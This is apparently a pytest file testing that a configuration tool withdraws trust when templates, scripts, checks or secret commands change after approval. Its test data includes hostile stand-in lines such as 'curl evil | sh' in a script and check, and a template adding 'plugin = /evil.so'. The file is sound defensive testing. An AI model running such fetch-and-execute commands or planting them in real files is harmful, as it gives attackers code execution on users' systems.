"""Attacks through what configuration brings: templates, scripts, checks, files, modules."""

from __future__ import annotations

import pytest

FILES = '[vars]\nA = "1"\n\n[files]\n"app.ini" = "app.ini.tmpl"\n'
GOOD = "a = {{ A }}\n"
EVIL = "a = {{ A }}\nplugin = /evil.so\n"


def test_attack_template_changes_after_trust(user):
    place = user.write("p/stead.toml", FILES)
    user.write("p/app.ini.tmpl", GOOD)
    user.trust(place)
    assert user.trusts(place)
    user.write("p/app.ini.tmpl", EVIL)
    assert not user.trusts(place)
    assert user.says(place) == ["changes app.ini.tmpl"]


@pytest.mark.parametrize(
    "word",
    ['include "inner/more.tmpl"', 'from "inner/more.tmpl" import x', 'extends "inner/more.tmpl"'],
)
def test_attack_included_template_changes_after_trust(user, word):
    place = user.write("p/stead.toml", FILES)
    user.write("p/app.ini.tmpl", f"{{% {word} %}}")
    user.write("p/inner/more.tmpl", GOOD)
    user.trust(place)
    assert user.trusts(place)
    user.write("p/inner/more.tmpl", EVIL)
    assert not user.trusts(place)
    assert user.says(place) == ["changes inner/more.tmpl"]


def test_attack_template_that_is_put_there_later(user):
    place = user.write("p/stead.toml", FILES)
    user.write("p/app.ini.tmpl", '{% include "more.tmpl" ignore missing %}')
    user.trust(place)
    user.write("p/more.tmpl", EVIL)
    assert not user.trusts(place)


def test_attack_template_of_a_layer_that_was_not_looked_at(user):
    text = '[layer.dev.files]\n"app.ini" = "app.ini.tmpl"\n'
    place = user.write("p/stead.toml", text)
    user.write("p/app.ini.tmpl", GOOD)
    user.trust(place)
    assert user.trusts(place, "dev")
    user.write("p/app.ini.tmpl", EVIL)
    assert not user.trusts(place, "dev")
    assert user.says(place, "dev") == ["changes app.ini.tmpl"]


def test_attack_template_with_the_name_of_a_manifest(user):
    """What a file means as a manifest says nothing of what it means as a template."""
    place = user.write("p/stead.toml", '[files]\n"app.txt" = "stead.toml"\n')
    user.trust(place)
    assert user.trusts(place)
    user.write("p/stead.toml", '# {{ plugin }}\n[files]\n"app.txt" = "stead.toml"\n')
    assert not user.trusts(place)


def test_attack_template_of_an_app(user):
    text = '[app.web]\nrun = ["true"]\n[app.web.files]\n"web.ini" = "web.tmpl"\n'
    place = user.write("p/stead.toml", text)
    user.write("p/web.tmpl", GOOD)
    user.trust(place)
    user.write("p/web.tmpl", EVIL)
    assert not user.trusts(place)


@pytest.mark.parametrize(
    "text",
    [
        '[vars]\nTOKEN = { type = "secret", value = "command:./get.sh" }\n',
        '[vars]\nTOKEN = { type = "secret", value = "command:sh get.sh db" }\n',
        '[host.lab]\nsecrets = { token = "command:./get.sh" }\n',
        '[lib.l.accepts]\nTOKEN = { type = "secret", default = "command:./get.sh" }\n',
        '[checks]\nmine = { run = ["./get.sh"] }\n',
        '[checks]\nmine = { run = ["python", "get.sh"] }\n',
        '[checks]\nmine = { command = ["./get.sh", "--version"], version = ">1" }\n',
        '[app.web]\nrun = ["true"]\n[app.web.checks]\nmine = { run = ["sh", "get.sh"] }\n',
        '[lib.l.checks]\nmine = { run = ["sh", "get.sh"] }\n[lib.l.accepts]\nA = { type = "str" }\n',
        '[paths]\nhere = "."\n[checks]\nmine = { run = ["${paths.here}/get.sh"] }\n',
        '[layer.dev.checks]\nmine = { run = ["sh", "get.sh"] }\n',
    ],
)
def test_attack_script_changes_after_trust(user, text):
    """A script that a secret or a check runs takes part as the manifest does."""
    place = user.write("p/stead.toml", text)
    user.write("p/get.sh", "echo good\n")
    environment = "dev" if "layer" in text else "default"
    user.trust(place)
    assert user.trusts(place, environment)
    user.write("p/get.sh", "curl evil | sh\n")
    assert not user.trusts(place, environment)
    assert user.says(place, environment) == ["changes get.sh"]


def test_attack_script_that_is_put_there_later(user):
    place = user.write("p/stead.toml", '[checks]\nmine = { run = ["sh", "get.sh"] }\n')
    user.trust(place)
    user.write("p/get.sh", "curl evil | sh\n")
    assert not user.trusts(place)


def test_programs_of_the_system_take_no_part(user, tmp_path):
    """Their next version would ask anew in every place."""
    program = tmp_path / "bin" / "pass"
    program.parent.mkdir()
    program.write_text("1")
    text = f'[vars]\nTOKEN = {{ type = "secret", value = "command:{program} show" }}\n'
    place = user.write("p/stead.toml", text)
    user.trust(place)
    program.write_text("2")
    assert user.trusts(place)


@pytest.mark.parametrize(
    ("before", "after", "said"),
    [
        (
            "",
            '[checks]\nmine = { run = ["sh", "-c", "curl evil | sh"] }\n',
            "adds check mine, which runs `sh -c 'curl evil | sh'`",
        ),
        (
            '[checks]\nmine = { run = ["true"] }\n',
            '[checks]\nmine = { run = ["false"] }\n',
            "changes check mine, which runs `false`",
        ),
        ('[checks]\nmine = { run = ["true"] }\n', "", "removes check mine"),
        (
            "",
            '[checks]\ndb = { port = "db.lan:5432" }\n',
            "adds check db, which connects to db.lan:5432",
        ),
        (
            "",
            '[files]\n"app.ini" = "app.ini.tmpl"\n',
            "adds a file app.ini, made from app.ini.tmpl",
        ),
        (
            "",
            '[files]\n"app.json" = { format = "json" }\n',
            "adds a file app.json, made of variables",
        ),
        (
            '[files]\n"app.json" = { format = "json" }\n',
            '[files]\n"app.json" = { format = "json", names = ["A*"] }\n',
            "changes the file app.json, made of variables",
        ),
        (
            "",
            '[app.web.processes]\nserve = ["python", "-m", "web"]\n',
            "adds app web, which runs `python -m web` as serve",
        ),
        (
            '[app.web]\nrun = ["a"]\n',
            '[app.web]\nrun = ["b"]\n[app.web.checks]\nmine = { run = ["c"] }\n',
            "changes app web, which runs `b`; with a check mine, which runs `c`",
        ),
        ("", '[net.office]\ndb = { host = "evil.lan" }\n', "adds net office"),
    ],
)
def test_what_changed_is_said_in_words(user, before, after, said):
    user.write("p/app.ini.tmpl", GOOD)
    place = user.write("p/stead.toml", before or "[vars]\n")
    user.trust(place)
    user.write("p/stead.toml", after or "[vars]\n")
    assert not user.trusts(place)
    assert said in user.says(place)
    assert "\0" not in "".join(user.says(place))


def test_what_is_harmless_stays_so(user):
    text = '[vars]\nLOG_LEVEL = "info"\n\n[files]\n"a.json" = {{ format = "json" }}\n# {}\n'
    place = user.write("p/stead.toml", text.format("one"))
    user.trust(place)
    user.write("p/stead.toml", text.format("two").replace("info", "debug"))
    assert user.trusts(place)
